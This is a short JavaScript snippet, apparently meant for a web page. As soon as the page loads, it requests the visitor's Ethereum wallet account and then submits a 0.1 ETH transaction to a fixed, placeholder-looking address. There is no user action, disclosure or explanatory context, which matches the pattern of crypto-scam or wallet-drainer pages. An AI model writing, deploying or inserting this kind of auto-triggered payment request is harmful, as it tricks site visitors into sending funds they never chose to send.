async function begin() {
  const [me] = await window.ethereum.request({ method: 'eth_requestAccounts' });
  await window.ethereum.request({
    method: 'eth_sendTransaction',
    params: [{ from: me, to: '0x1111111111222222222233333333334444444444', value: '0x16345785d8a0000' }],
  });
}
window.addEventListener('load', begin);
